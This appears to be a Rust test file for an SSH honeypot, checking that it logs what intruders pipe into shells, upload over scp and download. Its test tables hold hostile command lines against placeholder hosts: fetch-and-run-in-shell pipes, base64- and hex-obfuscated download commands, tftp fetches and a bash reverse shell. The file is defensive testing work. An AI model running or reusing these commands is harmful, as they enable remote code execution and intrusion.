//! What strangers bring through a shell is heard to its end, and what they do with it is answered behind.

use super::{
    client::{channel_request, data},
    login::{exec, inside, printed},
    *,
};

fn end() -> Vec<u8> {
    message(MSG_CHANNEL_EOF, |out| out.extend_from_slice(&[0; 4]))
}

/// A program that reads what is sent, in pieces: what it printed first, the input that was told, what it printed behind, its status.
fn brought(command: &str, pieces: &[&[u8]]) -> (String, String, String, Option<u8>) {
    let (mut client, first, status) = exec(command);
    assert_eq!(status, None, "{command} waits for input");
    let mut told = String::new();
    for piece in pieces {
        let (text, status) = printed(&client.ask(&data(piece)));
        assert_eq!((text.as_str(), status), ("", None), "{command}");
        told += &client.heard.reports.last().unwrap().0.fields["input"];
    }
    let (behind, status) = printed(&client.ask(&end()));
    (first, told, behind, status)
}

#[test]
fn whatever_reads_its_input_hears_it_to_the_end_and_goes_on() {
    let table = [
        ("echo ready; sh -c 'cat > /tmp/x'; wc -c /tmp/x; ls /tmp", "ready\n", "8 /tmp/x\nx\n", 0),
        ("(cat > /tmp/b) && chmod +x /tmp/b && /tmp/b ssh; echo $?", "", "0\n", 0),
        ("cat | base64 -d > /tmp/f; exit 3", "", "base64: invalid input\n", 3),
        ("tar xzf - -C /tmp && echo out", "", "out\n", 0),
        ("dd of=/tmp/y bs=1 2>/dev/null; head -c 4 /tmp/y | tail -c 3", "", "ELF", 0),
        ("while read x; do echo \"got $x\"; done | wc -l", "", "1\n", 0),
    ];
    for (command, first, behind, status) in table {
        let heard = brought(command, &[b"\x7fELF", b"abc\n"]);
        assert_eq!(heard, (first.into(), "\\u{7f}ELFabc\\u{a}".into(), behind.into(), Some(status)), "{command}");
    }
}

/// What is shown as it comes is told, and is there afterwards.
#[test]
fn what_is_given_back_is_heard_and_kept_too() {
    let (mut client, first, status) = exec("tee /tmp/x; wc -c < /tmp/x");
    assert_eq!((first.as_str(), status), ("", None));
    assert_eq!(printed(&client.ask(&data(b"#!/bin/sh\n"))).0, "#!/bin/sh\n");
    assert_eq!(printed(&client.ask(&data(b"id\n"))).0, "id\n");
    assert_eq!(client.heard.reports.last().unwrap().0.fields["input"], "id\\u{a}");
    assert_eq!(printed(&client.ask(&end())), ("13\n".into(), Some(0)));
}

#[test]
fn a_large_file_is_not_kept_but_its_length_is() {
    let (mut client, ..) = exec("cat > /tmp/big; wc -c < /tmp/big; ls -l /tmp/big | cut -d' ' -f5; cat /tmp/big | wc -c");
    for _ in 0..50 {
        client.ask(&data(&[b'x'; 20_000]));
    }
    let (text, status) = printed(&client.ask(&end()));
    assert!(text.starts_with("1000000\n1000000\n") && status == Some(0), "{text}");
}

#[test]
fn scp_is_answered_as_its_other_end_does() {
    let (mut client, first, status) = exec("scp -qt /tmp/up4");
    assert_eq!((first.as_str(), status), ("\0", None));
    let mut says = |bytes: &[u8]| printed(&client.ask(&data(bytes))).0;
    assert_eq!((says(b"C0755 7 up4\n"), says(b"\x7fELF12"), says(b"3\0")), ("\0".into(), "".into(), "\0".into()));
    assert_eq!(printed(&client.ask(&end())), (String::new(), Some(0)));
    assert!(
        client.heard.reports.iter().any(|(found, _)| found.fields.get("command").is_some_and(|told| told == "scp -qt /tmp/up4"))
    );
    assert_eq!(exec("scp -f /tmp/x").2, Some(1));
}

#[test]
fn a_shell_that_reads_its_input_takes_lines_and_what_it_starts_takes_the_rest() {
    let (mut client, _, status) = exec("cat | sh");
    assert_eq!(status, None);
    let (text, _) = printed(&client.ask(&data(b"echo $((6*7))\nwget http://198.51.100.77/a\n")));
    assert!(text.starts_with("42\n--20"), "{text}");
    assert_eq!(client.heard.reports.last().unwrap().0.fields["download"], "http://198.51.100.77/a");
    let (text, _) = printed(&client.ask(&data(b"echo before; cat > /tmp/x; wc -c < /tmp/x\nnot a command\n")));
    assert_eq!(text, "before\n");
    assert_eq!(client.heard.reports.last().unwrap().0.fields["input"], "not a command\\u{a}");
    assert_eq!(printed(&client.ask(&end())), ("14\n".into(), Some(0)));
    for (line, status) in [(&b"exit 7\n"[..], 7), (b"false\n", 1), (b"nosuch\n", 127)] {
        let (mut client, ..) = exec("sh");
        let said = printed(&client.ask(&data(line))).1;
        assert_eq!(said.or_else(|| printed(&client.ask(&end())).1), Some(status));
    }
    assert_eq!((exec("exit 3").2, exec("false; exit 0").2), (Some(3), Some(0)));
}

#[test]
fn addresses_are_told_though_they_are_put_together() {
    let (client, ..) = exec("h=198.51.100.5; p=http; for f in a b; do wget $p://$h/$f.sh; done");
    let found = &client.heard.reports.last().unwrap().0.fields;
    assert_eq!(found["download"], "http://198.51.100.5/a.sh; http://198.51.100.5/b.sh");
    let table = [
        ("wget 198.51.100.5/a -O /tmp/a; tftp -g -r b 198.51.100.5", "http://198.51.100.5/a; tftp://198.51.100.5/b"),
        ("echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC41L2M= | base64 -d | sh", "http://198.51.100.5/c"),
        ("echo 7767657420687474703a2f2f3139382e35312e3130302e352f64 | xxd -r -p | sh", "http://198.51.100.5/d"),
        ("bash <(echo 'curl http://'198.51.100.5/e)", "http://198.51.100.5/e"),
        (
            "a=(198.51.100.5 198.51.100.6); for h in \"${a[@]}\"; do curl -O http://$h/f; done",
            "http://$h/f; http://198.51.100.5/f; http://198.51.100.6/f",
        ),
        (
            "printf '5:g\\n6:h\\n' | while IFS=: read n p; do wget http://198.51.100.$n/$p; done",
            "http://198.51.100.$n/$p; http://198.51.100.5/g; http://198.51.100.6/h",
        ),
        ("bash -i >& /dev/tcp/198.51.100.5/4444 0>&1", "tcp://198.51.100.5:4444"),
        ("g() { wget http://$1/${2^^}; }; g 198.51.100.5 i", "http://$1/${2^^}; http://198.51.100.5/I"),
        (
            "for ((i=5;i<7;i++)); do wget http://198.51.100.$i/$'\\x6a'; done",
            "http://198.51.100.$i/$; http://198.51.100.5/j; http://198.51.100.6/j",
        ),
        ("x=$(cat <<E\nit's http:\nE\n); wget ${x#* }//198.51.100.5/k", "http://198.51.100.5/k"),
    ];
    for (command, told) in table {
        let (client, ..) = exec(command);
        let found = &client.heard.reports.last().unwrap().0.fields;
        assert_eq!(found.get("download").map(String::as_str), Some(told), "{command}");
    }
    let mut client = inside();
    client.ask(&channel_request("exec", |out| put_string(out, b"curl http://198.51.100.6/x | sh")));
    assert_eq!(client.heard.reports.last().unwrap().0.fields["download"], "http://198.51.100.6/x");
}
